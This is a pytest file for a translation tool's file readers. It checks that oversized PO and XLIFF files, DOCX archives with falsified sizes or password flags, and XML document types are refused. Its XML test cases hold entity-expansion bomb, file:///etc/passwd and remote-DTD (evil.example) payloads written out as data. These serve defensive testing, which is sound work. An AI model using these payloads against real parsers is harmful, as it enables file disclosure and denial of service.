"""Files made large on purpose are refused, or read in little memory; and archives that lie are refused."""

import io
import struct
import tracemalloc
import zipfile
from collections.abc import Callable

import pytest

from khabar.codec.po import LONGEST_ENTRY, BrokenCatalogue, entries, obsolete
from khabar.core.language import Lang
from khabar.read.catalogue import read_catalogue
from khabar.testing.world import MemoryWorld
from khabar.translate.exchange.docx import PLUGIN as WORD
from khabar.translate.exchange.po import PLUGIN as PO
from khabar.translate.exchange.xliff import PLUGIN as XLIFF
from khabar.translate.exchange_format import MOST_UNITS, Returned
from khabar.translate.safe_xml import MOST_TAGS
from khabar.translate.word.reading import UNPACKED
from tests.translate.units import about, unit

HEADER = 'msgid ""\nmsgstr "Language: ru\\n"\n\n'
LAST = 'msgctxt "a#1"\nmsgid "a"\nmsgstr "b"\n'
MUCH = 2_000_000
"""Bytes of each file: enough to tell memory that grows a hundredfold."""
XLIFF_HEAD = (
    b'<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.1" srcLang="en" trgLang="ru"><file id="a">'
)
XLIFF_END = b"</file></xliff>"
SENT = WORD.write([unit("The office is open.")], about())


def peak(run: Callable[[], object]) -> int:
    """Return the most bytes that something has taken."""
    tracemalloc.start()
    try:
        run()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def faults(returned: Returned) -> list[tuple[str, str]]:
    assert returned.units == ()
    assert all(fault.hint for fault in returned.faults)
    return [(fault.name, fault.message) for fault in returned.faults]


@pytest.mark.parametrize(
    "text",
    [
        HEADER + "\n" * MUCH + LAST,
        HEADER + "#~ a\n" * (MUCH // 5) + LAST,
        HEADER + "#~ a\n\n" * (MUCH // 6) + LAST,
        HEADER + "# a\n" * (MUCH // 4) + LAST,
        HEADER + "# a\n" * (MUCH // 4) + f" {LAST}",
        HEADER + LAST[:-4] + '"b"\n' * (MUCH // 4),
        HEADER + LAST[:-4] + ' "b"\n' * (MUCH // 5),
        HEADER + LAST + '#, fuzzy\n#| msgid ""\n' + '#| "a"\n' * (MUCH // 7) + LAST,
    ],
    ids=["empty", "obsolete", "parted", "notes", "loose notes", "one text", "loose text", "previous"],
)
def test_millions_of_lines_take_little_memory(text: str) -> None:
    data = text.encode()
    assert peak(lambda: PO.read(data, "ru.po")) < 12 * MUCH
    assert peak(lambda: list(obsolete(text[: MUCH // 20]))) < 12 * MUCH
    assert peak(lambda: read_catalogue(MemoryWorld({"locale/ru.po": text}), "locale/ru.po", Lang("ru"), [])) < 14 * MUCH


def test_notes_between_obsolete_texts_cost_no_square_of_time() -> None:
    text = "#~ a\n" + "# b\n" * 20_000  # 200 million steps, if each line were followed to the end
    assert [entry.body for entry in obsolete(text)] == ["#~ a\n"]
    whole = '# note\n#~ msgid "a"\n#~ msgstr "b"\n# other\n#~ msgid "c"\n#~ msgstr "d"\n# last\n'
    assert [(entry.sentence, entry.words) for entry in obsolete(whole)] == [("a", "b"), ("c", "d")]


@pytest.mark.parametrize("indent", ["", " "])
def test_a_text_without_an_end_is_refused_with_its_line(indent: str) -> None:
    text = HEADER + LAST + LAST[:-4].replace("#1", "#2") + f'{indent}"b"\n' * LONGEST_ENTRY
    with pytest.raises(BrokenCatalogue) as broken:
        list(entries(text))
    assert (broken.value.line, broken.value.reason) == (7, "this text has more than 1,000,000 characters")


def test_more_texts_than_anybody_translates_are_refused() -> None:
    text = HEADER + "".join(f'msgid "{number}"\nmsgstr "b"\n' for number in range(MOST_UNITS + 1))
    assert faults(PO.read(text.encode(), "ru.po")) == [("bad-catalogue", "the file has more than 100,000 texts")]
    units = XLIFF_HEAD + b"<unit/>" * (MOST_UNITS + 1) + XLIFF_END
    assert faults(XLIFF.read(units, "a.xlf")) == [
        ("file-too-large", "the file has 100,001 texts; at most 100,000 are read")
    ]


def test_more_tags_than_any_file_has_are_refused_before_they_are_parsed() -> None:
    data = XLIFF_HEAD + b"<a/>" * MOST_TAGS + XLIFF_END
    told = [("file-too-large", f"the file has {MOST_TAGS + 4:,} tags; at most {MOST_TAGS:,} are read")]
    assert faults(XLIFF.read(data, "a.xlf")) == told
    assert peak(lambda: XLIFF.read(data, "a.xlf")) < len(data) / 2


@pytest.mark.parametrize(
    "entities",
    [
        "".join(
            f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
        ),
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;',
        "",
    ],
)
def test_a_document_type_is_refused_in_every_format_of_xml(entities: str) -> None:
    bomb = f'<?xml version="1.0"?>\n<!DOCTYPE xliff [{entities}]>\n'
    (fault,) = XLIFF.read(bomb.encode() + XLIFF_HEAD + b"&i;" + XLIFF_END, "a.xlf").faults
    assert (fault.name, fault.where.line) == ("exchange-file-unsafe", 2)
    for part in ("word/document.xml", "_rels/.rels"):
        (fault,) = WORD.read(changed(part, lambda data: bomb.encode() + data.partition(b"?>")[2]), "a.docx").faults
        assert fault.name == "exchange-file-unsafe"


def changed(part: str, change: Callable[[bytes], bytes]) -> bytes:
    """Return the document with a part of it changed."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(SENT)) as given, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in given.namelist():
            archive.writestr(name, change(given.read(name)) if name == part else given.read(name))
    return made.getvalue()


def lying(size: int) -> bytes:
    """Return a document of 30 MB that says in its list of parts that it has fewer."""
    data = changed("word/document.xml", lambda data: data.replace(b"</w:body>", b" " * 30_000_000 + b"</w:body>"))
    at = data.rindex(b"word/document.xml") - 46  # its header in the central directory
    assert data[at : at + 4] == b"PK\x01\x02"
    return data[: at + 24] + struct.pack("<I", size) + data[at + 28 :]


@pytest.mark.parametrize("size", [0, 100, 5_000])
def test_a_document_that_lies_about_its_size_is_called_damaged(size: int) -> None:
    data = lying(size)
    told = "the document is damaged: its contents do not match their recorded size or checksum"
    assert faults(WORD.read(data, "a.docx")) == [("exchange-file-broken", told)]
    assert peak(lambda: WORD.read(data, "a.docx")) < 5_000_000


def test_a_document_that_says_it_is_huge_is_refused_before_it_is_unpacked() -> None:
    ((name, message),) = faults(WORD.read(lying(UNPACKED + 1), "a.docx"))
    assert name == "file-too-large"
    assert f"at most {UNPACKED:,}" in message


def test_a_document_with_a_password_is_called_so() -> None:
    data = bytearray(SENT)
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := data.find(mark, at)) >= 0:
            data[at + flags] |= 1
            at += 4
    assert faults(WORD.read(bytes(data), "a.docx")) == [
        ("exchange-file-broken", "the document is protected by a password")
    ]
